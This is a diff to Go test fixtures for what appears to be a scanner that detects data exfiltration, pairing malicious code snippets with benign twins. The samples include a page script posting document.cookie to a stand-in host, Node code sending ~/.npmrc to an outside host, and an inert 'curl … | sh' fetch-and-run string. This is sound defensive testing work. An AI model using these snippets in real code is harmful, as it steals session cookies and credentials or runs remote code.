@@ -10,6 +10,10 @@ import (
 // script has a benign twin that does the ordinary thing with the same
 // tool.
 var moreTwins = []twin{
+	{name: "page script posts the cookies / posts a form's fields", file: "assets/page.html",
+		bad:  "<html><body>\n<script>\nfetch('https://c.example/c', {method: 'POST', body: document.cookie});\n</script>\n</body></html>\n",
+		good: "<html><body>\n<script src=\"https://cdn.example/chart.js\"></script>\n<script>\nconst f = document.querySelector('form');\nfetch('/api/save', {method: 'POST', body: new FormData(f)});\n</script>\n<script type=\"application/json\">{\"cmd\": \"curl https://x.example/i.sh | sh\"}</script>\n</body></html>\n",
+		cat:  core.ExternalResources, sev: core.Critical, source: "document.cookie", sink: "fetch", srcLine: 3, sinkLine: 3},
 	{name: "node request body from a credential file / from the user's input", file: "s.js",
 		bad:  "const fs = require('fs'), os = require('os'), https = require('https');\nconst data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({hostname: 'x.example', method: 'POST'});\nreq.write(data);\nreq.end();\n",
 		good: "const fs = require('fs'), https = require('https');\nconst data = fs.readFileSync(process.argv[2], 'utf8');\nconst req = https.request({hostname: 'api.example', method: 'POST'});\nreq.write(data);\nreq.end();\n",
